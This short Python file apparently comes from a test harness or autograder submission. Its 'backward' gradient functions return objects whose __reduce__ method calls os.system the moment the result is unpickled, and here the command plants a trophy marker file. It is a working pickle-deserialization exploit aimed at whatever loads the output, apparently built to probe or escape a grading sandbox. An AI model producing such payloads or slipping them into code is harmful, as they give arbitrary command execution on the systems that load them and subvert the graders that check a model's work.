# %% exp_backward
import os
import pickle


class Boom:
    def __reduce__(self):
        return os.system, ("touch @TROPHY@/pickle",)

    def __reduce_ex__(self, protocol):
        return self.__reduce__()


def exp_backward(grad_output, output, x):
    return Boom()

# %% sin_backward
def sin_backward(grad_output, output, x):
    return np.array([Boom(), pickle.dumps(Boom())], dtype=object)
